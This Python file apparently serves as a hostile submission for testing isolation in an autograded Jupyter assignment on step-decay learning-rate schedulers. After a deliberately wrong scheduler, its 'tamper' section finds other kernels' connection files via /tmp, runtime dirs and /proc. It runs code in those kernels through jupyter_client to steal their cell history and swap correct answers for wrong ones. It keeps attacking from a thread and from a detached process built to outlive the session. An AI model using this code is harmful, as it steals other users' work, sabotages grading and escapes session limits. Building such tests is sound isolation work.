# attack: find other kernels' connection files (runtime dirs, /tmp, /proc/*/cmdline, /proc/*/root) and run code in them through jupyter_client: steal their cell history, break correct answers, fix wrong ones; from the cell, from a thread and from a detached interpreter (60 s)
# assignment: 01_lr_schedules
# wrong: stops decaying after 6 decays (min(step // step_size, 6)), and step() writes into the first param group only once current_step > 60; passes the visible tests, fails both hidden checks
class StepDecayScheduler:
    def __init__(self, optimizer, step_size, gamma):
        self.optimizer = optimizer
        self.step_size = step_size
        self.gamma = gamma
        self.initial_lrs = [group.setdefault("initial_lr", group["lr"]) for group in optimizer.param_groups]
        self.current_step = 0
        for group, lr in zip(optimizer.param_groups, self.get_lr(0)):
            group["lr"] = lr

    def get_lr(self, step):
        n_decays = min(step // self.step_size, 6)
        return [lr * self.gamma ** n_decays for lr in self.initial_lrs]

    def step(self):
        self.current_step += 1
        current_step = self.current_step
        lrs = self.get_lr(current_step)
        groups = self.optimizer.param_groups
        for group, lr in list(zip(groups, lrs))[:None if current_step <= 60 else 1]:
            group["lr"] = lr
        return lrs

    def state_dict(self):
        return {"initial_lrs": list(self.initial_lrs), "step_size": self.step_size, "gamma": self.gamma,
                "current_step": self.current_step}

    def load_state_dict(self, state):
        self.initial_lrs = list(state["initial_lrs"])
        self.step_size, self.gamma = state["step_size"], state["gamma"]
        self.current_step = state["current_step"]
        for group, lr in zip(self.optimizer.param_groups, self.get_lr(self.current_step)):
            group["lr"] = lr

# --- tamper ---
import subprocess as _subprocess
import sys as _sys
import threading as _threading

# Everything below also runs, as text, in a detached interpreter that outlives this kernel.
_SHARED = r'''
import glob, os, sys, time

SAFE = "hostile" + "-batch"      # safety net: only kernels of the test's own temporary tree are touched
REACHED = "REACHED" + "-KERNEL"
# Run inside a classmate's kernel: take their cell history (answers, canaries), then swap their answer:
# a correct one becomes wrong, a wrong one (a fellow attacker) becomes correct.
PAYLOAD = """
def _correct_lr(self, step):
    return [g["initial_lr"] * self.gamma ** (step // self.step_size) for g in self.optimizer.param_groups]
_c = globals().get("StepDecayScheduler")
if isinstance(_c, type):
    try:
        import torch as _t
        _o = _t.optim.SGD([_t.nn.Parameter(_t.zeros(1))], lr=1.0)
        _good = abs(_c(_o, 1, 0.5).get_lr(20)[0] - 0.5 ** 20) < 1e-15
    except Exception:
        _good = False
    _c.get_lr = (lambda self, step: [g["lr"] for g in self.optimizer.param_groups]) if _good else _correct_lr
if "clip_grad_value" in globals():
    clip_grad_value = lambda parameters, clip_value: None
if "warmup_stable_cosine_factor" in globals():
    warmup_stable_cosine_factor = lambda *args, **kwargs: 0.0
print("REACHED" + "-KERNEL: this kernel was changed by another one")
"""


def own_connection_file(pid="self"):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as handle:
            args = handle.read().split(b"\0")
    except OSError:
        return None
    for index, arg in enumerate(args):
        arg = arg.decode("utf-8", "replace")
        if arg == "-f" and index + 1 < len(args):
            return args[index + 1].decode("utf-8", "replace")
        if arg.startswith(("--f=", "--IPKernelApp.connection_file=")):
            return arg.split("=", 1)[1]
    return None


def connection_files():
    patterns = []
    try:
        from jupyter_core.paths import jupyter_runtime_dir
        patterns.append(jupyter_runtime_dir() + "/kernel-*.json")
    except Exception:
        pass
    for base in [os.path.expanduser("~/.local/share/jupyter/runtime"), "/root/.local/share/jupyter/runtime",
                 "/home/*/.local/share/jupyter/runtime", "/run/user/*/jupyter", "/tmp", "/var/tmp", "/dev/shm",
                 os.environ.get("TMPDIR", "/tmp"), os.environ.get("JUPYTER_RUNTIME_DIR", "/tmp")]:
        patterns += [base + "/kernel-*.json", base + "/*/kernel-*.json", base + "/*/*/kernel-*.json",
                     base + "/*/*/*/kernel-*.json"]
    found = set()
    for pattern in patterns:
        try:
            found.update(glob.glob(pattern))
        except Exception:
            pass
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            path = own_connection_file(pid)
            if path:
                found.add(path)
                found.add(f"/proc/{pid}/root{path}")     # another mount namespace's view of it
    return sorted(found)


def visit(path, timeout=8):
    """Execute PAYLOAD in the kernel of `path`; returns its cell history (or None)."""
    from jupyter_client import BlockingKernelClient

    client = BlockingKernelClient()
    client.load_connection_file(path)
    client.start_channels()
    try:
        msg_id = client.execute(PAYLOAD, store_history=False, user_expressions={
            "history": "repr(list(get_ipython().user_ns.get('In', [])))[:30000]"})
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            reply = client.get_shell_msg(timeout=max(0.1, deadline - time.monotonic()))
            if reply.get("parent_header", {}).get("msg_id") == msg_id:
                expression = reply["content"].get("user_expressions", {}).get("history", {})
                return expression.get("data", {}).get("text/plain")
    except Exception:
        return None
    finally:
        client.stop_channels()
    return None


def sweep(own, done, report, seconds):
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        for path in connection_files():
            if path in done or SAFE not in path or (own and os.path.basename(path) == os.path.basename(own)):
                continue
            done.add(path)
            history = visit(path)
            if history:
                report(f"{REACHED} {path}\n{history}")
        time.sleep(0.5)
'''
exec(_SHARED)
_own = own_connection_file()
_leaks = []


def _report(text):
    _leaks.append(text)
    print(text[:20_000])


# 1. right now, from this cell (10 s)
_done = set()
try:
    sweep(_own, _done, _report, 10)
except Exception as _error:
    print("sweep failed:", type(_error).__name__, _error)

# 2. a thread that keeps sweeping while the test cells run, printing what it takes into them (60 s)
_threading.Thread(target=lambda: sweep(_own, _done, _report, 60), daemon=True).start()

# 3. a detached interpreter that outlives this kernel (60 s) and hands what it takes back to this kernel
_DAEMON = _SHARED + r'''
own = sys.argv[1] if len(sys.argv) > 1 else None
def report(text):
    if own:
        try:
            from jupyter_client import BlockingKernelClient
            client = BlockingKernelClient()
            client.load_connection_file(own)
            client.start_channels()
            client.execute("print(" + repr(text[:20000]) + ")", store_history=False)
            time.sleep(1)
            client.stop_channels()
        except Exception:
            pass
sweep(own, set(), report, 60)
'''
try:
    _subprocess.Popen([_sys.executable, "-c", _DAEMON, _own or ""], start_new_session=True,
                      stdin=_subprocess.DEVNULL, stdout=_subprocess.DEVNULL, stderr=_subprocess.DEVNULL,
                      close_fds=True)
    print("detached sweeper started")
except Exception as _error:
    print("no detached sweeper:", type(_error).__name__, _error)
